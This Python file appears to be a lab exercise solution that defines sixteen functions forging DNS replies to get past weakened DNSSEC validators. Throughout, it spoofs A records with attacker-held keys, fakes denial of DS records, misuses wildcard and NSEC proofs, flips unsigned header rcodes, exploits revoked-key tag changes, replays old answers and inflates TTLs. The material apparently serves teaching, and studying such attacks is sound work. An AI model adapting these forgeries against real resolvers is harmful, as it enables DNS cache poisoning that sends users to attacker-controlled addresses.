"""A solution of exercise 10 that explains itself: what each level does not look at, and how one uses it."""

from dns import rcode
from dns.name import from_text
from dns.rdatatype import RdataType

from dnsseclab.attacker.crafting import a_record, no_such_name, reply, reply_to, signatures, signed, with_key
from dnsseclab.authority.keys import key_from_private
from dnsseclab.authority.zones import make_rrset
from dnsseclab.protocol.dnssec import REVOKED, key_tag, label_count
from dnsseclab.protocol.messages import parse, to_bytes

HOUR, WEEK = 3600, 604_800  # seconds


def forge_1(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Sign the lie in the name of a zone of one's own, whose chain of trust is whole."""
    mine = key_from_private(home, key, "ZSK")
    address = a_record(victim, lie)
    return [reply(victim, "A", address, signed(address, mine, now, signer=mine.zone))]


def forge_2(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Let an unsigned DS name a key of one's own, and sign with that from there on."""
    mine = key_from_private(zone, key, "CSK")
    ds, keys, address = make_rrset(zone, HOUR, mine.ds()), make_rrset(zone, HOUR, mine.dnskey), a_record(victim, lie)
    return [
        reply(zone, "DS", ds),
        reply(zone, "DNSKEY", keys, signed(keys, mine, now)),
        reply(victim, "A", address, signed(address, mine, now)),
    ]


def forge_3(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Add a key of one's own to the root's keys, and let the root itself say what the victim's address is."""
    mine = key_from_private(".", key, "ZSK")
    keys, address = with_key(packets, ".", mine.dnskey), a_record(victim, lie)
    return [
        reply(".", "DNSKEY", keys, signed(keys, mine, now)),
        reply(victim, "A", address, signed(address, mine, now)),
    ]


def forge_4(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Say that the zone has no DS, without any proof, and then lie unsigned."""
    return [reply(zone, "DS"), reply(victim, "A", a_record(victim, lie))]


def forge_5(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Lie unsigned."""
    return [reply(victim, "A", a_record(victim, lie))]


def forge_6(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Move a wildcard's answer to the victim's name, and put a signature before the good one that denies the wildcard.

    The first signature is worthless, but it counts as many labels as the victim's name has.
    """
    good = signatures(parse(packets[-1]), "A")[0]  # of a name that only the wildcard answers for
    false = good.replace(labels=label_count(from_text(victim)), signature=bytes(64))
    address = a_record(victim, lie)
    return [reply(victim, "A", address, make_rrset(victim, HOUR, false, good))]


def forge_7(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Add a key of one's own to the zone's keys, and sign them all with it."""
    mine = key_from_private(zone, key, "ZSK")
    keys, address = with_key(packets, zone, mine.dnskey), a_record(victim, lie)
    return [
        reply(zone, "DNSKEY", keys, signed(keys, mine, now)),
        reply(victim, "A", address, signed(address, mine, now)),
    ]


def forge_8(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Show the NSEC record that the parent has at the cut: every name of the child lies in its gap."""
    neighbor = next(message for message in map(parse, packets) if message.rcode() == rcode.NXDOMAIN)
    at_cut = [rrset for rrset in neighbor.authority if rrset.name == from_text(zone)]
    soa = [rrset for rrset in neighbor.authority if RdataType.SOA in (rrset.rdtype, rrset.covers)]
    return [no_such_name(victim, *soa, *at_cut)]


def forge_9(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Show the gap in which the victim's name lies, and that there is no wildcard, though at the wrong place."""
    *_, gap, other = map(parse, packets)
    soa = [rrset for rrset in gap.authority if RdataType.SOA in (rrset.rdtype, rrset.covers)]
    nsec = [rrset for rrset in gap.authority + other.authority if RdataType.NSEC in (rrset.rdtype, rrset.covers)]
    return [no_such_name(victim, *soa, *nsec)]


def forge_10(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Let the proof that a name does not exist pass for the proof that an unsigned zone begins there."""
    denial = reply_to(packets, victim, "DS")
    denial.set_rcode(rcode.NOERROR)  # the header is not signed
    return [to_bytes(denial), reply(victim, "A", a_record(victim, lie))]


def forge_11(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Sign with the revoked key: the REVOKE bit has changed its tag."""
    stolen = key_from_private(zone, key, "KSK")
    revoked = stolen.dnskey.replace(flags=int(stolen.dnskey.flags) | REVOKED)
    address = a_record(victim, lie)
    return [reply(victim, "A", address, signed(address, stolen, now, key_tag=key_tag(revoked)))]


def forge_12(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Replace the zone's keys by one's own key that happens to have the tag that the DS names."""
    mine = key_from_private(zone, key, "KSK")
    keys, address = make_rrset(zone, HOUR, mine.dnskey), a_record(victim, lie)
    return [
        reply(zone, "DNSKEY", keys, signed(keys, mine, now)),
        reply(victim, "A", address, signed(address, mine, now)),
    ]


def forge_13(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Move a wildcard's answer to the victim's name, with its genuine signature."""
    good = signatures(parse(packets[-1]), "A")
    return [reply(victim, "A", a_record(victim, lie), make_rrset(victim, HOUR, *good))]


def forge_14(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Let nobody have the zone's keys, and lie unsigned."""
    failure = parse(reply(zone, "DNSKEY"))
    failure.set_rcode(rcode.SERVFAIL)
    return [to_bytes(failure), reply(victim, "A", a_record(victim, lie))]


def forge_15(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Send the old answer."""
    return packets[-1:]


def forge_16(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Send today's answer with a TTL of a week: nobody signs the TTL."""
    genuine = reply_to(packets, victim, "A")
    for rrset in genuine.answer:
        rrset.ttl = WEEK
    return [to_bytes(genuine)]
